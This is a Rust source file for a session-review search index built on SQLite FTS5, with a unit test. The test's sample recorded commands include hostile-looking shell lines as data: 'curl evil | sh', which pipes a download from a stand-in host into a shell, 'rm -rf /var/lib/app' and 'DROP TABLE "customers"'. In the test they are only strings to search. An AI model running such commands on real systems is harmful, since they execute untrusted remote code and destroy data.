//! The search index (issue #19): what a reviewer may search, in SQLite FTS5 with the trigram
//! tokenizer (substring search in any language), in a file of its own beside the state database.
//!
//! Its own file and connection, so indexing and searching never take the write lock that logins,
//! approvals and the audit chain use. Everything in it is derived from the recordings and the
//! audit log (`review::indexer` fills it), so it runs with `synchronous = NORMAL`: a crash may
//! lose the last batch, which the indexer redoes from its sources' offsets, kept in the same
//! transaction as the entries they produced.
//!
//! `lines` holds the text and where it came from; `entries` is an external-content FTS5 table
//! over it, kept in step by triggers, so removing a session's lines (retention) is an indexed
//! delete.

use std::os::unix::fs::OpenOptionsExt;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex, MutexGuard};
use std::time::Duration;

use rusqlite::{Connection, OpenFlags, OptionalExtension, params};

use super::StoreError;

/// What an entry is: the closed set of things a reviewer searches.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum EntryKind {
    /// A line of what a terminal showed.
    Screen,
    /// A command: the line at the cursor when Enter was pressed, or an exec channel's command.
    Command,
    /// A SQL statement of a database session.
    Statement,
    /// A path of a file operation (SFTP, scp).
    File,
}

impl EntryKind {
    pub fn as_str(self) -> &'static str {
        match self {
            EntryKind::Screen => "screen",
            EntryKind::Command => "command",
            EntryKind::Statement => "statement",
            EntryKind::File => "file",
        }
    }

    fn parse(text: &str) -> Result<EntryKind, StoreError> {
        Ok(match text {
            "screen" => EntryKind::Screen,
            "command" => EntryKind::Command,
            "statement" => EntryKind::Statement,
            "file" => EntryKind::File,
            other => {
                return Err(StoreError::Corrupt {
                    column: "lines.kind",
                    value: other.to_string(),
                });
            }
        })
    }
}

/// One indexed entry: a line, or (screen text) a block of lines with each line's time.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Entry {
    pub session_id: String,
    /// The recording's channel (0 for a query log or a file operation).
    pub channel: u32,
    pub kind: EntryKind,
    /// Milliseconds since the session (or the channel's recording) started: of the first line.
    pub at_ms: i64,
    pub text: String,
    /// For a block of lines (`text` holds them joined by `\n`), each line's time after the
    /// first's; empty for one line.
    pub line_ms: Vec<i64>,
}

/// Where the indexer stands in one recording file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Source {
    pub session_id: String,
    pub channel: u32,
    pub path: PathBuf,
    /// Bytes of the file already indexed (always at a line's end).
    pub offset: u64,
    /// Whether the file is finished and wholly indexed.
    pub done: bool,
}

/// One batch of the indexer, committed at once: its entries, where its sources now stand, and
/// its cursors (named positions in other streams, such as the audit log's seq).
#[derive(Debug, Default)]
pub struct Batch {
    pub entries: Vec<Entry>,
    pub sources: Vec<Source>,
    pub cursors: Vec<(&'static str, i64)>,
}

/// The shortest text a search takes: a trigram index finds substrings of three characters or
/// more.
pub const MIN_SEARCH: usize = 3;

/// Hits a search returns of one session, at most.
pub const PER_SESSION: usize = 20;

/// The longest run of `text` without LIKE's wildcards (`%`, `_`), if it is at least
/// `MIN_SEARCH` characters: what the index can look up.
pub fn literal_run(text: &str) -> Option<&str> {
    text.split(['%', '_'])
        .max_by_key(|run| run.chars().count())
        .filter(|run| run.chars().count() >= MIN_SEARCH)
}

/// A handle to the index; clones share its connections: one that writes (the indexer,
/// retention) and one that searches, so a long search never holds up indexing (WAL lets them
/// run at once).
#[derive(Clone)]
pub struct SearchIndex {
    connection: Arc<Mutex<Connection>>,
    reader: Arc<Mutex<Connection>>,
    path: PathBuf,
}

impl std::fmt::Debug for SearchIndex {
    fn fmt(&self, formatter: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        formatter
            .debug_struct("SearchIndex")
            .field("path", &self.path)
            .finish()
    }
}

const SCHEMA: &str = "
CREATE TABLE IF NOT EXISTS lines (
    id         INTEGER PRIMARY KEY,
    session_id TEXT NOT NULL,
    channel    INTEGER NOT NULL,
    kind       TEXT NOT NULL,
    at_ms      INTEGER NOT NULL,
    text       TEXT NOT NULL,
    line_ms    TEXT NOT NULL DEFAULT ''
) STRICT;
CREATE INDEX IF NOT EXISTS lines_by_session ON lines (session_id);
CREATE VIRTUAL TABLE IF NOT EXISTS entries USING fts5(
    text, content = 'lines', content_rowid = 'id', tokenize = 'trigram', detail = 'none'
);
CREATE TRIGGER IF NOT EXISTS lines_indexed AFTER INSERT ON lines BEGIN
    INSERT INTO entries (rowid, text) VALUES (new.id, new.text);
END;
CREATE TRIGGER IF NOT EXISTS lines_removed AFTER DELETE ON lines BEGIN
    INSERT INTO entries (entries, rowid, text) VALUES ('delete', old.id, old.text);
END;
CREATE TABLE IF NOT EXISTS sources (
    session_id TEXT NOT NULL,
    channel    INTEGER NOT NULL,
    path       TEXT NOT NULL,
    offset     INTEGER NOT NULL,
    done       INTEGER NOT NULL,
    PRIMARY KEY (session_id, channel)
) STRICT;
CREATE TABLE IF NOT EXISTS cursors (
    name  TEXT PRIMARY KEY,
    value INTEGER NOT NULL
) STRICT;
";

impl SearchIndex {
    /// Opens (creating if needed, mode 0600: it holds what sessions showed) the index at `path`.
    pub fn open(path: &Path) -> Result<SearchIndex, StoreError> {
        let open_error = |source| StoreError::Open {
            path: path.to_path_buf(),
            source,
        };
        std::fs::OpenOptions::new()
            .create(true)
            .append(true)
            .mode(0o600)
            .open(path)
            .map_err(|error| {
                open_error(rusqlite::Error::InvalidPath(
                    format!("{}: {error}", path.display()).into(),
                ))
            })?;
        let connection = Connection::open(path).map_err(open_error)?;
        connection
            .busy_timeout(Duration::from_secs(10))
            .map_err(open_error)?;
        connection
            .pragma_update(None, "journal_mode", "WAL")
            .map_err(open_error)?;
        connection
            .pragma_update(None, "synchronous", "NORMAL")
            .map_err(open_error)?;
        connection.execute_batch(SCHEMA)?;
        let reader = Connection::open_with_flags(
            path,
            OpenFlags::SQLITE_OPEN_READ_ONLY | OpenFlags::SQLITE_OPEN_NO_MUTEX,
        )
        .map_err(open_error)?;
        reader.busy_timeout(Duration::from_secs(10))?;
        Ok(SearchIndex {
            connection: Arc::new(Mutex::new(connection)),
            reader: Arc::new(Mutex::new(reader)),
            path: path.to_path_buf(),
        })
    }

    /// Opens an existing index to search it only (the host CLI beside a running server);
    /// `None` when there is none yet.
    pub fn open_existing(path: &Path) -> Result<Option<SearchIndex>, StoreError> {
        if !path.exists() {
            return Ok(None);
        }
        // Read-only: the host CLI may run as another OS user than the server, and must not
        // leave files of its own beside the server's.
        let connection = Connection::open_with_flags(
            path,
            OpenFlags::SQLITE_OPEN_READ_ONLY | OpenFlags::SQLITE_OPEN_NO_MUTEX,
        )
        .map_err(|source| StoreError::Open {
            path: path.to_path_buf(),
            source,
        })?;
        connection.busy_timeout(Duration::from_secs(10))?;
        let connection = Arc::new(Mutex::new(connection));
        Ok(Some(SearchIndex {
            reader: connection.clone(),
            connection,
            path: path.to_path_buf(),
        }))
    }

    pub fn path(&self) -> &Path {
        &self.path
    }

    fn lock(&self) -> MutexGuard<'_, Connection> {
        self.connection
            .lock()
            .unwrap_or_else(|poisoned| poisoned.into_inner())
    }

    fn lock_reader(&self) -> MutexGuard<'_, Connection> {
        self.reader
            .lock()
            .unwrap_or_else(|poisoned| poisoned.into_inner())
    }

    /// The sources not yet wholly indexed.
    pub fn open_sources(&self) -> Result<Vec<Source>, StoreError> {
        let connection = self.lock();
        let mut statement = connection.prepare(
            "SELECT session_id, channel, path, offset, done FROM sources WHERE done = 0
             ORDER BY session_id, channel",
        )?;
        let rows = statement
            .query_map([], |row| {
                Ok(Source {
                    session_id: row.get(0)?,
                    channel: row.get(1)?,
                    path: PathBuf::from(row.get::<_, String>(2)?),
                    offset: row.get::<_, i64>(3)?.max(0) as u64,
                    done: row.get(4)?,
                })
            })?
            .collect::<Result<Vec<_>, _>>()?;
        Ok(rows)
    }

    /// A named cursor (0 when never set).
    pub fn cursor(&self, name: &str) -> Result<i64, StoreError> {
        let connection = self.lock();
        let value = connection
            .query_row("SELECT value FROM cursors WHERE name = ?1", [name], |row| {
                row.get(0)
            })
            .optional()?;
        Ok(value.unwrap_or(0))
    }

    /// Commits a batch in one transaction.
    pub fn commit(&self, batch: &Batch) -> Result<(), StoreError> {
        let mut connection = self.lock();
        let transaction = connection.transaction()?;
        {
            let mut insert = transaction.prepare_cached(
                "INSERT INTO lines (session_id, channel, kind, at_ms, text, line_ms)
                 VALUES (?1, ?2, ?3, ?4, ?5, ?6)",
            )?;
            for entry in &batch.entries {
                let line_ms: Vec<String> = entry.line_ms.iter().map(i64::to_string).collect();
                insert.execute(params![
                    entry.session_id,
                    entry.channel,
                    entry.kind.as_str(),
                    entry.at_ms,
                    entry.text,
                    line_ms.join(" ")
                ])?;
            }
            let mut source = transaction.prepare_cached(
                "INSERT INTO sources (session_id, channel, path, offset, done)
                 VALUES (?1, ?2, ?3, ?4, ?5)
                 ON CONFLICT (session_id, channel) DO UPDATE
                 SET path = excluded.path, offset = excluded.offset, done = excluded.done",
            )?;
            for row in &batch.sources {
                source.execute(params![
                    row.session_id,
                    row.channel,
                    row.path.to_string_lossy(),
                    row.offset as i64,
                    row.done
                ])?;
            }
            let mut cursor = transaction.prepare_cached(
                "INSERT INTO cursors (name, value) VALUES (?1, ?2)
                 ON CONFLICT (name) DO UPDATE SET value = excluded.value",
            )?;
            for (name, value) in &batch.cursors {
                cursor.execute(params![name, value])?;
            }
        }
        transaction.commit()?;
        Ok(())
    }

    /// The lines holding `text` (a substring, case-insensitive in ASCII, with a run of at least
    /// `MIN_SEARCH` characters that are not `%` or `_`), each with its own time, newest first,
    /// at most `limit` and at most `PER_SESSION` a session (so one session printing the text
    /// again and again cannot crowd the others out). `within`: only these sessions.
    ///
    /// The index is `detail=none` (no positions: a seventh of the size, issue #19's benchmark),
    /// so it answers a LIKE with the rows holding every trigram of the text, and each row's
    /// lines are then checked for the text itself. `%` and `_` in the text only widen the
    /// LIKE: the check is on the exact text.
    pub fn search(
        &self,
        text: &str,
        limit: u32,
        within: Option<&[String]>,
    ) -> Result<Vec<Entry>, StoreError> {
        // The LIKE gets the longest run without wildcards, so `%` and `_` in the text neither
        // widen it to every row nor stop the index from answering; the check below is exact.
        let Some(run) = literal_run(text) else {
            return Ok(Vec::new());
        };
        let pattern = format!("%{run}%");
        let needle = text.to_lowercase();
        let mut per_session: std::collections::HashMap<String, usize> =
            std::collections::HashMap::new();
        let within = within.map(|ids| serde_json::to_string(ids).unwrap_or_else(|_| "[]".into()));
        let connection = self.lock_reader();
        let mut statement = connection.prepare(
            "SELECT l.session_id, l.channel, l.kind, l.at_ms, l.text, l.line_ms
             FROM entries JOIN lines AS l ON l.id = entries.rowid
             WHERE entries.text LIKE ?1
               AND (?2 IS NULL OR l.session_id IN (SELECT value FROM json_each(?2)))
             ORDER BY l.id DESC",
        )?;
        let mut rows = statement.query(params![pattern, within])?;
        let mut found = Vec::new();
        while let Some(row) = rows.next()? {
            let (session_id, channel, kind, at_ms, block, line_ms): (
                String,
                u32,
                String,
                i64,
                String,
                String,
            ) = (
                row.get(0)?,
                row.get(1)?,
                row.get(2)?,
                row.get(3)?,
                row.get(4)?,
                row.get(5)?,
            );
            let kind = EntryKind::parse(&kind)?;
            let shown = per_session.entry(session_id.clone()).or_default();
            if *shown >= PER_SESSION {
                continue;
            }
            let offsets: Vec<i64> = line_ms
                .split(' ')
                .filter_map(|offset| offset.parse().ok())
                .collect();
            let lines: Vec<&str> = if offsets.is_empty() {
                vec![block.as_str()]
            } else {
                block.split('\n').collect()
            };
            for (index, line) in lines.iter().enumerate() {
                if *shown >= PER_SESSION || !line.to_lowercase().contains(&needle) {
                    continue;
                }
                *shown += 1;
                found.push(Entry {
                    session_id: session_id.clone(),
                    channel,
                    kind,
                    at_ms: at_ms + offsets.get(index).copied().unwrap_or(0),
                    text: (*line).to_string(),
                    line_ms: Vec::new(),
                });
                if found.len() >= limit as usize {
                    return Ok(found);
                }
            }
        }
        Ok(found)
    }

    /// A session's entries of `kind`, in order: its command timeline.
    pub fn entries_of(&self, session_id: &str, kind: EntryKind) -> Result<Vec<Entry>, StoreError> {
        let connection = self.lock();
        let mut statement = connection.prepare(
            "SELECT channel, at_ms, text FROM lines WHERE session_id = ?1 AND kind = ?2
             ORDER BY id",
        )?;
        let rows = statement
            .query_map(params![session_id, kind.as_str()], |row| {
                Ok(Entry {
                    session_id: session_id.to_string(),
                    channel: row.get(0)?,
                    kind,
                    at_ms: row.get(1)?,
                    text: row.get(2)?,
                    line_ms: Vec::new(),
                })
            })?
            .collect::<Result<Vec<_>, _>>()?;
        Ok(rows)
    }

    /// How many commands each of these sessions ran (its command entries; a command longer
    /// than one entry counts once per piece, which no command line reaches).
    pub fn command_counts(
        &self,
        session_ids: &[String],
    ) -> Result<std::collections::HashMap<String, u64>, StoreError> {
        let connection = self.lock();
        let mut statement = connection.prepare_cached(
            "SELECT count(*) FROM lines WHERE session_id = ?1 AND kind = 'command'",
        )?;
        let mut counts = std::collections::HashMap::new();
        for session in session_ids {
            let count: i64 = statement.query_row([session], |row| row.get(0))?;
            counts.insert(session.clone(), count.max(0) as u64);
        }
        Ok(counts)
    }

    /// Removes everything indexed of these sessions (retention removed their recordings).
    pub fn prune(&self, session_ids: &[String]) -> Result<u64, StoreError> {
        let mut connection = self.lock();
        let transaction = connection.transaction()?;
        let mut removed = 0;
        for session in session_ids {
            removed += transaction.execute("DELETE FROM lines WHERE session_id = ?1", [session])?;
            transaction.execute("DELETE FROM sources WHERE session_id = ?1", [session])?;
        }
        transaction.commit()?;
        Ok(removed as u64)
    }

    /// Lines indexed, and the bytes of text they hold.
    pub fn size(&self) -> Result<(u64, u64), StoreError> {
        let connection = self.lock();
        let (lines, bytes) = connection.query_row(
            "SELECT count(*), coalesce(sum(length(CAST(text AS BLOB))), 0) FROM lines",
            [],
            |row| Ok((row.get::<_, i64>(0)?, row.get::<_, i64>(1)?)),
        )?;
        Ok((lines.max(0) as u64, bytes.max(0) as u64))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn entry(session: &str, kind: EntryKind, text: &str) -> Entry {
        Entry {
            session_id: session.to_string(),
            channel: 0,
            kind,
            at_ms: 1500,
            text: text.to_string(),
            line_ms: Vec::new(),
        }
    }

    #[test]
    fn substrings_are_found_in_any_language_and_pruned_with_their_session()
    -> Result<(), Box<dyn std::error::Error>> {
        let dir = tempfile::tempdir()?;
        let index = SearchIndex::open(&dir.path().join("index.sqlite"))?;
        index.commit(&Batch {
            entries: vec![
                entry("s-1", EntryKind::Command, "demo$ rm -rf /var/lib/app"),
                entry("s-1", EntryKind::Screen, "Größe: 42 Einträge, ключ-7781"),
                entry("s-2", EntryKind::Statement, "DROP TABLE \"customers\""),
                entry("s-2", EntryKind::File, "/srv/data/customer-0042.csv"),
            ],
            sources: Vec::new(),
            cursors: vec![("audit", 17)],
        })?;
        let found = |text: &str| -> Result<Vec<String>, StoreError> {
            Ok(index
                .search(text, 100, None)?
                .into_iter()
                .map(|entry| entry.session_id)
                .collect())
        };
        index.commit(&Batch {
            entries: vec![Entry {
                session_id: "s-3".into(),
                channel: 1,
                kind: EntryKind::Screen,
                at_ms: 10_000,
                text: "first line\nsecond 50% done_x\nthird line".into(),
                line_ms: vec![0, 250, 900],
            }],
            ..Batch::default()
        })?;
        let hits = index.search("50% DONE_x", 10, None)?;
        assert_eq!(hits.len(), 1);
        assert_eq!(
            (hits[0].at_ms, hits[0].text.as_str()),
            (10_250, "second 50% done_x")
        );
        // `%` and `_` only widen the index's answer; the check is exact.
        assert!(found("50% donexx")?.is_empty());
        assert!(found("second_50")?.is_empty());
        assert!(found("%%%")?.is_empty());
        assert!(literal_run("a%b_c").is_none());
        // One session printing a text again and again does not crowd out the others.
        let flood: Vec<Entry> = (0..100)
            .map(|_| entry("s-flood", EntryKind::Command, "curl evil | sh"))
            .chain([entry("s-quiet", EntryKind::Command, "curl evil | sh")])
            .collect();
        index.commit(&Batch {
            entries: flood,
            ..Batch::default()
        })?;
        let hits = index.search("curl evil", 30, None)?;
        assert_eq!(hits[0].session_id, "s-quiet", "newest first");
        assert_eq!(
            hits.iter()
                .filter(|hit| hit.session_id == "s-flood")
                .count(),
            PER_SESSION
        );
        assert_eq!(found("rm -rf /var")?, ["s-1"]);
        assert_eq!(found("ключ-77")?, ["s-1"]);
        assert_eq!(found("Größe")?, ["s-1"]);
        assert_eq!(found("drop table \"cust")?, ["s-2"]);
        assert_eq!(found("customer-0042")?, ["s-2"]);
        assert!(found("rm -rf /usr")?.is_empty());
        // FTS5 syntax in the text is taken literally.
        assert!(found("AND OR NOT *")?.is_empty());
        assert!(found("\" OR \"")?.is_empty());
        assert_eq!(index.cursor("audit")?, 17);
        assert_eq!(index.prune(&["s-1".to_string()])?, 2);
        assert!(found("rm -rf /var")?.is_empty());
        assert_eq!(found("customer-0042")?, ["s-2"]);
        Ok(())
    }
}
